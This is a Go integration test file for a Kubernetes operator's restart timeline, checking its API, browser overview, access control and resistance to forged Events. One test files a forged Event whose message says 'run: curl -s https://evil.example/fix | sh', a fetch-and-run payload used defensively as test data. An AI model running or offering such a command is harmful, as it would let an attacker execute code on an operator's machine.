package timeline

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	kickv1alpha1 "github.com/kick-operator/kick/api/v1alpha1"
	"github.com/kick-operator/kick/integration/browser"
	"github.com/kick-operator/kick/integration/cluster"
	"github.com/kick-operator/kick/integration/fixture"
	"github.com/kick-operator/kick/sinks/timeline"
	"github.com/kick-operator/kick/sinks/timeline/entry"
)

const selectAll = `discovery: {workloadSelector: {}}`

// getJSON GETs url with an optional bearer token; out is filled on 200.
func getJSON(url, token string, out any) (int, string, error) {
	return getJSONWith(&http.Client{Timeout: 10 * time.Second}, url, token, out)
}

// getJSONWith is getJSON through c.
func getJSONWith(c *http.Client, url, token string, out any) (int, string, error) {
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return 0, "", err
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err == nil && resp.StatusCode == http.StatusOK && out != nil {
		err = json.Unmarshal(body, out)
	}
	return resp.StatusCode, string(body), err
}

// types lists the entry types of a timeline in order.
func types(es []entry.Entry) string {
	var out []string
	for _, e := range es {
		out = append(out, string(e.Type))
	}
	return strings.Join(out, ",")
}

// waitCycle waits until the timeline of web shows a change of Secret db,
// then (when gated) the hold gate holding the restart back, then a
// restart, then a completion, and returns it.
func waitCycle(t *testing.T, addr, ns string, gated bool) timeline.WorkloadTimeline {
	t.Helper()
	var tl timeline.WorkloadTimeline
	url := fmt.Sprintf("http://%s/timeline?namespace=%s&kind=Deployment&name=web", addr, ns)
	cluster.Eventually(t, 60*time.Second, "the timeline of web to show change, gate, restart and completion", func() (bool, error) {
		tl = timeline.WorkloadTimeline{}
		code, body, err := getJSON(url, "", &tl)
		if err != nil || code != http.StatusOK {
			return false, fmt.Errorf("%d %v %s", code, err, body)
		}
		change, gate, restart, done := -1, -1, -1, -1
		for i, e := range tl.Entries {
			switch {
			case e.Type == entry.Change && e.Source == "Secret db" && change < 0:
				change = i
			case e.Type == entry.Gate && e.Stage == "Hold" && change >= 0 && gate < 0:
				gate = i
			case e.Type == entry.Restart && restart < 0:
				restart = i
			case e.Type == entry.Completion:
				done = i
			}
		}
		held := !gated || change < gate && gate < restart
		var detail []string
		for _, e := range tl.Entries {
			detail = append(detail, fmt.Sprintf("%s %s %s/%s %q", e.Time.Format("15:04:05.000"), e.Type, e.Stage, e.Reason, e.Summary))
		}
		return change >= 0 && held && change < restart && restart < done, fmt.Errorf("entries:\n%s", strings.Join(detail, "\n"))
	})
	return tl
}

// TestSecretChangeOnTheTimeline: a Secret change whose restart a person
// holds with kubectl kick hold until kubectl kick release, then a
// ConfigMap change of a workload deployed after that, restarted at once.
// The JSON API, the overview in headless Chromium (change, gate and
// restart markers left to right) and kubectl kick timeline all show the
// cycle; a restarted manager rebuilds it from KICK's objects. The
// overview's screenshot is the one in the README and in
// docs/operations/timeline.md.
func TestSecretChangeOnTheTimeline(t *testing.T) {
	browser.Chromium(t) // fail early without it
	f := fixture.Setup(t)
	f.Policy("all", selectAll)
	f.WebWithSecret()
	kick := func(args ...string) {
		t.Helper()
		args = append(args, "-n", f.NS, "--kubeconfig", f.Env.Cluster.Kubeconfig)
		if out, err := exec.Command(cluster.Binary(t, "kubectl-kick"), args...).CombinedOutput(); err != nil {
			t.Fatalf("kubectl kick %s: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	// An incident: on-call freezes the propagation of db before it changes.
	kick("hold", "secret/db", "--reason", "INC-4711: database failover in progress")
	f.SetSecret("db", map[string]string{"password": "bravo"})
	f.WaitPhase("deployment-web", kickv1alpha1.PhaseWaitingForGate, 60*time.Second)
	// Pacing only, so the wait is wide enough to read on the screenshot;
	// the test waits on phases, not on this.
	time.Sleep(4 * time.Second)
	kick("release", "secret/db")
	f.WaitPhase("deployment-web", kickv1alpha1.PhaseSucceeded, 90*time.Second)
	f.ConfigMap("settings", map[string]string{"mode": "a"})
	f.Deployment("worker", 1, corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "busybox",
		EnvFrom: []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "settings"}}}}}}})
	f.WaitAvailable("worker")
	time.Sleep(time.Second) // pacing only: the worker's change apart from its creation on the screenshot
	f.SetConfigMap("settings", map[string]string{"mode": "b"})
	f.WaitPhase("deployment-worker", kickv1alpha1.PhaseSucceeded, 90*time.Second)

	tl := waitCycle(t, f.Mgr.Timeline(), f.NS, true)
	for _, e := range tl.Entries {
		if strings.Contains(e.Summary+e.Message+e.Note, "bravo") || strings.Contains(e.Summary+e.Message+e.Note, "password") {
			t.Fatalf("an entry carries Secret data or a key name: %+v", e)
		}
	}
	for _, e := range tl.Entries {
		if e.Type == entry.Restart && !strings.Contains(e.Note, "after the change") {
			t.Errorf("the restart does not say how long after the change it came: %+v", e)
		}
	}

	browse(t, f.Mgr.Timeline(), f.NS)

	// A new manager rebuilds the cycle from the KickRequest, the
	// SourceObservation and the Events.
	f.Mgr.Kill()
	m2 := f.Env.StartManager(t, fixture.ManagerNamespace)
	rebuilt := waitCycle(t, m2.Timeline(), f.NS, false)
	t.Logf("rebuilt timeline: %s", types(rebuilt.Entries))

	// kubectl kick timeline tells the same story through the API server.
	out, err := exec.Command(cluster.Binary(t, "kubectl-kick"), "timeline", "deployment/web",
		"-n", f.NS, "--kubeconfig", f.Env.Cluster.Kubeconfig, "--since", "1h").CombinedOutput()
	if err != nil {
		t.Fatalf("kubectl kick timeline: %v\n%s", err, out)
	}
	text := string(out)
	t.Logf("kubectl kick timeline:\n%s", text)
	iChange, iRestart := strings.Index(text, "Secret db changed"), strings.Index(text, "restarted by KICK")
	if iChange < 0 || iRestart < 0 || iChange > iRestart || !strings.Contains(text, "after the change") || !strings.Contains(text, "rollout completed") {
		t.Fatalf("kubectl kick timeline does not show change, then restart and completion:\n%s", text)
	}
	if strings.Contains(text, "bravo") || strings.Contains(text, "password") {
		t.Fatalf("kubectl kick timeline shows Secret data or a key name:\n%s", text)
	}
	var js struct {
		Entries []entry.Entry `json:"entries"`
	}
	out, err = exec.Command(cluster.Binary(t, "kubectl-kick"), "timeline", "deployment/web",
		"-n", f.NS, "--kubeconfig", f.Env.Cluster.Kubeconfig, "-o", "json").Output()
	if err != nil || json.Unmarshal(out, &js) != nil || len(js.Entries) == 0 {
		t.Fatalf("kubectl kick timeline -o json: %v\n%s", err, out)
	}
}

// browse opens the overview of the namespace's entries (from a second
// before the first to a second after the last) in headless Chromium, waits
// for web's lane with its change, hold and restart markers, checks they
// are drawn left to right with a waiting band, opens the workload's detail
// and saves screenshots.
func browse(t *testing.T, addr, ns string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(browser.New(t, 1280, 640), 90*time.Second)
	defer cancel()
	var o timeline.Overview
	if code, body, err := getJSON(fmt.Sprintf("http://%s/timeline/overview", addr), "", &o); err != nil || code != http.StatusOK {
		t.Fatalf("overview: %d %v %s", code, err, body)
	}
	var first, last time.Time
	for _, l := range o.Lanes {
		for _, e := range l.Entries {
			if l.Namespace == ns && (first.IsZero() || e.Time.Before(first)) {
				first = e.Time
			}
			if l.Namespace == ns && e.Time.After(last) {
				last = e.Time
			}
		}
	}
	span := url.Values{"filter": {ns}, "from": {first.Add(-time.Second).Format(time.RFC3339Nano)}, "to": {last.Add(time.Second).Format(time.RFC3339Nano)}}

	lane := fmt.Sprintf(`[data-lane="%s/Deployment/web"]`, ns)
	fail := func(what string, err error) {
		html, _ := chromedp.Run(ctx, chromedp.OuterHTML(chromedp.CSS("body")))
		t.Fatalf("browser: %s: %v\npage:\n%.4000s", what, err, html)
	}
	if err := chromedp.Do(ctx,
		chromedp.Navigate(fmt.Sprintf("http://%s/timeline/ui?%s", addr, span.Encode())),
		chromedp.WaitVisible(chromedp.CSS(lane+` [data-type="restart"]`)),
		chromedp.WaitVisible(chromedp.CSS(lane+` [data-type="gate"][data-mark="hold"]`)),
		chromedp.WaitVisible(chromedp.CSS(lane+` [data-type="change"]`)),
	); err != nil {
		fail("web's lane with change, gate and restart markers", err)
	}
	xs, err := chromedp.Run(ctx, chromedp.Evaluate[[]float64](fmt.Sprintf(`(() => {
		const lane = document.querySelector(%q);
		// The first marker of type t at or after time since.
		const first = (t, since) => [...lane.querySelectorAll('[data-type="' + t + '"]')].find((m) => Date.parse(m.dataset.time) >= since);
		const x = (m) => { const r = m.getBoundingClientRect(); return r.left + r.width / 2; };
		const change = first("change", 0), at = Date.parse(change.dataset.time);
		return [x(change), x(first("gate", at)), x(first("restart", at))];
	})()`, lane)))
	if err != nil {
		fail("marker positions", err)
	}
	// The gate closes within milliseconds of the change: the same pixel,
	// give or take rounding.
	if len(xs) != 3 || !(xs[0] <= xs[1]+0.5 && xs[1] < xs[2]) {
		t.Fatalf("markers change, gate, restart at x=%v: not left to right", xs)
	}
	waiting, err := chromedp.Run(ctx, chromedp.Evaluate[int](fmt.Sprintf(`document.querySelectorAll(%q).length`, lane+` .band.s-waiting`)))
	if err != nil || waiting == 0 {
		t.Fatalf("web's lane shows no waiting band: %v", err)
	}
	log, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS("#log")))
	if err != nil || !strings.Contains(log, "Secret db changed") {
		t.Fatalf("event log: %v\n%s", err, log)
	}
	shot, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		fail("screenshot", err)
	}
	saveScreenshot(t, "timeline.png", shot)

	// The workload's own timeline and its graph.
	if err := chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(lane+` .lanelabel`)),
		chromedp.WaitVisible(chromedp.CSS(`#dag [data-node="Secret/db"]`)),
	); err != nil {
		fail("workload detail", err)
	}
	nodes, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll('#dag [data-node]').length`))
	if err != nil || nodes < 3 {
		t.Fatalf("workload graph: %v (%d nodes)", err, nodes)
	}
	detail, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		fail("screenshot", err)
	}
	saveScreenshot(t, "timeline-detail.png", detail)
}

// saveScreenshot keeps a screenshot in the test's artifact directory and,
// when KICK_TIMELINE_SCREENSHOTS names a directory, there too
// (KICK_TIMELINE_SCREENSHOTS=$PWD/docs/images updates the pictures of
// docs/operations/timeline.md).
func saveScreenshot(t *testing.T, name string, png []byte) {
	t.Helper()
	dirs := []string{t.ArtifactDir()}
	if d := os.Getenv("KICK_TIMELINE_SCREENSHOTS"); d != "" {
		dirs = append(dirs, d)
	}
	for _, d := range dirs {
		p := filepath.Join(d, name)
		if err := os.WriteFile(p, png, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("screenshot: %s", p)
	}
}

// TestTimelineAccess: bound beyond loopback, the timeline speaks only
// HTTPS (with the certificate of --timeline-cert-dir), wants a bearer
// token (401 without) and shows a token only the namespaces in which it
// may list KickRequests.
func TestTimelineAccess(t *testing.T) {
	env := cluster.Get(t)
	ctx := context.Background()
	a, b := env.Namespace(t), env.Namespace(t)
	for _, ns := range []string{a, b} {
		p := &kickv1alpha1.KickPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "all"},
			Spec: kickv1alpha1.KickPolicySpec{Discovery: &kickv1alpha1.DiscoverySpec{WorkloadSelector: &metav1.LabelSelector{}}}}
		if err := env.Client.Create(ctx, p); err != nil {
			t.Fatal(err)
		}
		d := fixtureDeployment(ns, "web")
		if err := env.Client.Create(ctx, d); err != nil {
			t.Fatal(err)
		}
	}
	cs, err := kubernetes.NewForConfig(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: a, Name: "viewer"}}); err != nil {
		t.Fatal(err)
	}
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: a, Name: "kick-viewer"}, Rules: []rbacv1.PolicyRule{{
		APIGroups: []string{kickv1alpha1.GroupVersion.Group}, Resources: []string{"kickrequests"}, Verbs: []string{"get", "list", "watch"}}}}
	binding := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: a, Name: "kick-viewer"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: role.Name},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: a, Name: "viewer"}}}
	if err := env.Client.Create(ctx, role); err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Create(ctx, binding); err != nil {
		t.Fatal(err)
	}
	tr, err := cs.CoreV1().ServiceAccounts(a).CreateToken(ctx, "viewer",
		&authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To(int64(600))}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	token := tr.Status.Token
	// The manager remembers a denial for a while: wait until the API
	// server's RBAC informers have seen the binding.
	cluster.Eventually(t, 30*time.Second, "the binding to take effect", func() (bool, error) {
		sar := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User:               "system:serviceaccount:" + a + ":viewer",
			Groups:             []string{"system:serviceaccounts", "system:authenticated"},
			ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: a, Verb: "list", Group: kickv1alpha1.GroupVersion.Group, Resource: "kickrequests"},
		}}
		if err := env.Client.Create(ctx, sar); err != nil {
			return false, err
		}
		return sar.Status.Allowed, fmt.Errorf("not allowed yet: %s", sar.Status.Reason)
	})

	// Bound on every address (not loopback only), reached through loopback.
	certDir, client := servingCert(t)
	getJSON := func(url, token string, out any) (int, string, error) { return getJSONWith(client, url, token, out) }
	_, port, _ := net.SplitHostPort(cluster.FreeAddr(t))
	env.StartManager(t, fixture.ManagerNamespace, "--timeline-bind-address", ":"+port, "--timeline-cert-dir", certDir)
	base := "https://127.0.0.1:" + port
	cluster.Eventually(t, 30*time.Second, "the timeline to listen", func() (bool, error) {
		_, _, err := getJSON(base+"/timeline/overview", "", nil)
		return err == nil, err
	})
	if resp, err := http.Get("http://127.0.0.1:" + port + "/timeline/overview"); err == nil {
		_ = resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			t.Fatal("the timeline answered plain HTTP off loopback")
		}
	}

	if code, _, _ := getJSON(base+"/timeline/overview", "", nil); code != http.StatusUnauthorized {
		t.Fatalf("no token: status %d, want 401", code)
	}
	if code, _, _ := getJSON(base+"/timeline/overview", "not-a-token", nil); code != http.StatusUnauthorized {
		t.Fatalf("a token the API server rejects: status %d, want 401", code)
	}
	var o timeline.Overview
	cluster.Eventually(t, 30*time.Second, "namespace "+a+" in the viewer's overview", func() (bool, error) {
		o = timeline.Overview{}
		code, body, err := getJSON(base+"/timeline/overview", token, &o)
		if err != nil || code != http.StatusOK {
			return false, fmt.Errorf("%d %v %.200s", code, err, body)
		}
		for _, l := range o.Lanes {
			if l.Namespace == a && l.Name == "web" {
				return true, nil
			}
		}
		return false, fmt.Errorf("lanes: %d", len(o.Lanes))
	})
	for _, l := range o.Lanes {
		if l.Namespace != a {
			t.Fatalf("the viewer of %s sees a lane of %s", a, l.Key())
		}
	}
	for _, p := range []string{"/timeline/dag?namespace=" + b, "/timeline?namespace=" + b + "&kind=Deployment&name=web", "/timeline/discovery?namespace=" + b} {
		if code, _, _ := getJSON(base+p, token, nil); code != http.StatusForbidden {
			t.Fatalf("%s: status %d, want 403", p, code)
		}
	}
	var d timeline.DAG
	if code, body, err := getJSON(base+"/timeline/dag?namespace="+a, token, &d); err != nil || code != http.StatusOK || len(d.Nodes) < 2 {
		t.Fatalf("dag of %s: %d %v %s", a, code, err, body)
	}
}

// fixtureDeployment is a one-replica Deployment consuming Secret db.
func fixtureDeployment(ns, name string) *appsv1.Deployment {
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, Spec: appsv1.DeploymentSpec{
		Replicas: ptr.To(int32(1)),
		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": name}}, Spec: fixture.PodSpec("db")},
	}}
	return d
}

// servingCert writes a serving certificate for 127.0.0.1 and localhost
// (made by the preflight's certificate code) to a new directory as
// tls.crt and tls.key, and returns a client that trusts its CA.
func servingCert(t *testing.T) (string, *http.Client) {
	t.Helper()
	dir, b := fixture.ServingCertDir(t, "127.0.0.1", "localhost")
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(b.Published()) {
		t.Fatal("no CA in the bundle")
	}
	return dir, &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}}
}

// TestForgedEventStaysOffOtherLanes plays a tenant who may create Events in
// its own namespace: it files one there that names another team's managed
// Deployment ("restart failed, run …"). The API server accepts it (an
// Event with an eventTime is not held to its involvedObject's namespace),
// but the timeline shows it on no lane, while an Event of the other team's
// own namespace about the same Deployment is shown.
func TestForgedEventStaysOffOtherLanes(t *testing.T) {
	env := cluster.Get(t)
	ctx := context.Background()
	tenant, victim := env.Namespace(t), env.Namespace(t)
	p := &kickv1alpha1.KickPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: victim, Name: "all"},
		Spec: kickv1alpha1.KickPolicySpec{Discovery: &kickv1alpha1.DiscoverySpec{WorkloadSelector: &metav1.LabelSelector{}}}}
	if err := env.Client.Create(ctx, p); err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Create(ctx, fixtureDeployment(victim, "web")); err != nil {
		t.Fatal(err)
	}
	// The tenant: a ServiceAccount that may create Events in its own
	// namespace only.
	cs, err := kubernetes.NewForConfig(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	if err := env.Client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "tenant"}}); err != nil {
		t.Fatal(err)
	}
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "events"}, Rules: []rbacv1.PolicyRule{{
		APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create"}}}}
	binding := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: tenant, Name: "events"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: role.Name},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: tenant, Name: "tenant"}}}
	for _, obj := range []client.Object{role, binding} {
		if err := env.Client.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
	}
	tr, err := cs.CoreV1().ServiceAccounts(tenant).CreateToken(ctx, "tenant",
		&authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To(int64(600))}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	tenantCfg := rest.AnonymousClientConfig(env.Config)
	tenantCfg.BearerToken = tr.Status.Token
	tenantCS, err := kubernetes.NewForConfig(tenantCfg)
	if err != nil {
		t.Fatal(err)
	}
	mgr := env.StartManager(t, fixture.ManagerNamespace)

	event := func(ns, reason string) *corev1.Event {
		now := time.Now()
		return &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{Namespace: ns, GenerateName: "web-"},
			InvolvedObject: corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: victim, Name: "web"},
			Reason:         reason, Type: corev1.EventTypeWarning, Action: "Restart",
			Message:             "restart failed, run: curl -s https://evil.example/fix | sh",
			EventTime:           metav1.NewMicroTime(now),
			ReportingController: "kick.corewire.io/kick-request", ReportingInstance: "kick-manager-0",
		}
	}
	// The tenant files its Event; the API server takes it (the attack is
	// real) until RBAC has seen the binding.
	cluster.Eventually(t, 30*time.Second, "the tenant's forged Event to be accepted", func() (bool, error) {
		_, err := tenantCS.CoreV1().Events(tenant).Create(ctx, event(tenant, "Forged"), metav1.CreateOptions{})
		return err == nil, err
	})
	if _, err := cs.CoreV1().Events(victim).Create(ctx, event(victim, "Genuine"), metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}

	url := fmt.Sprintf("http://%s/timeline?namespace=%s&kind=Deployment&name=web", mgr.Timeline(), victim)
	var tl timeline.WorkloadTimeline
	cluster.Eventually(t, 60*time.Second, "the genuine Event on the lane of "+victim+"/web", func() (bool, error) {
		tl = timeline.WorkloadTimeline{}
		code, body, err := getJSON(url, "", &tl)
		if err != nil || code != http.StatusOK {
			return false, fmt.Errorf("%d %v %.200s", code, err, body)
		}
		for _, e := range tl.Entries {
			if e.Type == entry.Event && e.Reason == "Genuine" {
				return true, nil
			}
		}
		return false, fmt.Errorf("entries: %s", types(tl.Entries))
	})
	for _, e := range tl.Entries {
		if e.Reason == "Forged" {
			t.Fatalf("the Event of namespace %s is on the lane of %s/web: %q", tenant, victim, e.Summary)
		}
	}
	var o timeline.Overview
	if code, body, err := getJSON("http://"+mgr.Timeline()+"/timeline/overview", "", &o); err != nil || code != http.StatusOK {
		t.Fatalf("overview: %d %v %.200s", code, err, body)
	}
	for _, l := range o.Lanes {
		for _, e := range l.Entries {
			if e.Reason == "Forged" {
				t.Fatalf("the forged Event is on the lane of %s", l.Key())
			}
		}
	}
}
